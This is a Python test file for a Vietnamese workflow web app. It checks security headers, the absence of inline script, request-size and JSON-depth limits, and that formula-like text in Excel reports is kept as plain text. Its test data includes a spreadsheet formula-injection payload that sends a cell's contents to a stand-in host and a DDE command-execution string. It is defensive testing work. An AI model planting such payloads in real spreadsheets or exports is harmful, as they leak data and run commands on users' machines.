"""What every response says to the browser (security headers, no inline script),
what a spreadsheet of staff-typed text does (nothing), and how much one request may
carry."""
from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from docx import Document
from openpyxl import load_workbook

from tests.e2e.web_helpers import HEAD, MONITOR, STAFF, WebWorld, build_world
from tests.support.office import KSTTHC
from web.limits import MAX_JSON_DEPTH

TEMPLATES = Path(__file__).resolve().parents[2] / "web" / "templates"
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Bấm để xem")'


@pytest.fixture
def world(sqlite_url: str) -> WebWorld:
    return build_world(sqlite_url)


@pytest.mark.parametrize("path", ["/", "/auth/login", "/plans", "/designer/", "/api/inbox", "/no-such-page"])
def test_every_response_carries_the_security_headers(world: WebWorld, path: str) -> None:
    response = world.client("thietke" if path == "/designer/" else MONITOR).get(path)
    csp = response.headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
    assert "unsafe-eval" not in csp and "script-src 'self' 'unsafe-inline'" not in csp
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "same-origin"
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["Cache-Control"] == "no-store"


def test_no_template_runs_inline_script_the_policy_would_block() -> None:
    for template in TEMPLATES.rglob("*.html"):
        html = template.read_text()
        for tag in re.findall(r"<script\b[^>]*>", html):
            assert "src=" in tag or 'type="application/json"' in tag, (template.name, tag)
        assert not re.search(r"\son[a-z]+=\"", html), template.name  # onclick= and the like
        assert "javascript:" not in html, template.name


def report_cells(sqlite_url: str, title: str) -> list:
    """The Excel report's cells holding `title`, of a plan whose one task is named so
    (a title read from a document someone typed)."""
    world = build_world(sqlite_url)
    plan_id = world.office.plan([{"ref": "2", "title": title, "lead": [KSTTHC], "due": "2024-03-29"}])
    response = world.client(MONITOR).get(f"/plans/{plan_id}/report.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    return [c for row in sheet.iter_rows() for c in row if c.value == title]


@pytest.mark.parametrize("text", [INJECTION, "+84 912 345 678", "-5% so với kế hoạch", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
                                  "=cmd|' /C calc'!A0"])
def test_a_text_that_looks_like_a_formula_is_text_in_the_excel_report(sqlite_url: str, text: str) -> None:
    cells = report_cells(sqlite_url, text)
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


@pytest.mark.parametrize("kind", ["xlsx", "docx"])
@pytest.mark.parametrize("text", ["Rà soát\x0bthủ tục", "Mục\x1b[31m đỏ", "Kết quả\ufffe"])
def test_a_text_holding_a_character_xml_cannot_carry_still_makes_the_report(sqlite_url: str, kind: str,
                                                                            text: str) -> None:
    world = build_world(sqlite_url)
    plan_id = world.office.plan([{"ref": "2", "title": text, "lead": [KSTTHC], "due": "2024-03-29"}])
    response = world.client(MONITOR).get(f"/plans/{plan_id}/report.{kind}")
    assert response.status_code == 200
    words = text.translate({0x0b: " ", 0x1b: " ", 0xfffe: " "})
    if kind == "xlsx":
        sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
        assert words in [c.value for row in sheet.iter_rows() for c in row]
    else:
        assert words in "\n".join(c.text for t in Document(io.BytesIO(response.data)).tables
                                  for row in t.rows for c in row.cells)


def test_a_step_text_past_the_limit_is_a_400_and_never_reaches_the_workflow(world: WebWorld) -> None:
    head = world.client(HEAD)
    head.post(f"/steps/{world.step('assign')}", data={"assignee": world.office.users[STAFF]})
    staff = world.client(STAFF)
    response = staff.post(f"/api/steps/{world.step('report')}/complete", json={"result": "x" * 10_001})
    assert response.status_code == 400
    assert response.get_json()["error"]["fields"]["result"].startswith("Nội dung quá dài")
    assert world.step("report")  # still waiting


def test_a_json_body_past_two_megabytes_is_a_413(world: WebWorld) -> None:
    response = world.client(HEAD).post(f"/api/steps/{world.step('assign')}/complete",
                                       json={"assignee": 1, "padding": "x" * (3 * 1024 * 1024)})
    assert response.status_code == 413 and response.get_json()["error"]["code"] == "too_large"
    assert "không quá 2 MB" in response.get_json()["error"]["message"]  # the body's limit, not the files' 20 MB
    assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"]
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_a_form_field_past_the_limit_is_a_400_naming_the_field(world: WebWorld) -> None:
    response = world.client(HEAD).post(f"/steps/{world.step('assign')}/extension",
                                       data={"new_due": "2024-04-30", "reason": "x" * 60_000})
    assert response.status_code == 400



def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


@pytest.mark.parametrize("body", [nested(100_000),  # past Python's recursion limit: it was a 500
                                  '{"assignee": %d, "note": ' + nested(MAX_JSON_DEPTH) + "}"])
def test_a_json_body_nested_deeper_than_any_command_is_a_400_that_says_so(world: WebWorld, body: str) -> None:
    response = world.client(HEAD).post(f"/api/steps/{world.step('assign')}/complete",
                                       data=body.replace("%d", str(world.office.users[STAFF])),
                                       content_type="application/json")
    assert response.status_code == 400 and response.get_json()["error"]["code"] == "bad_request"
    assert world.step("assign")  # still waiting


def test_a_json_body_nested_to_the_limit_is_read(world: WebWorld) -> None:
    body = '{"assignee": %d, "note": %s}' % (world.office.users[STAFF], nested(MAX_JSON_DEPTH - 1))
    response = world.client(HEAD).post(f"/api/steps/{world.step('assign')}/complete", data=body,
                                       content_type="application/json")
    assert response.status_code == 200, response.get_data(as_text=True)


@pytest.mark.parametrize("escaped", ["\\u0000", "\\ud800", "\\udfff"])
def test_a_json_text_holding_a_character_no_utf8_text_holds_is_a_400_and_never_stored(world: WebWorld,
                                                                                      escaped: str) -> None:
    body = '{"assignee": %d, "instruction": "Rà soát %s"}' % (world.office.users[STAFF], escaped)
    response = world.client(HEAD).post(f"/api/steps/{world.step('assign')}/complete", data=body,
                                       content_type="application/json")
    assert response.status_code == 400
    assert response.get_json()["error"]["fields"] == {"json": "Nội dung chứa ký tự không lưu được."}
    assert world.step("assign")  # still waiting: the task's page, which would show it, still opens
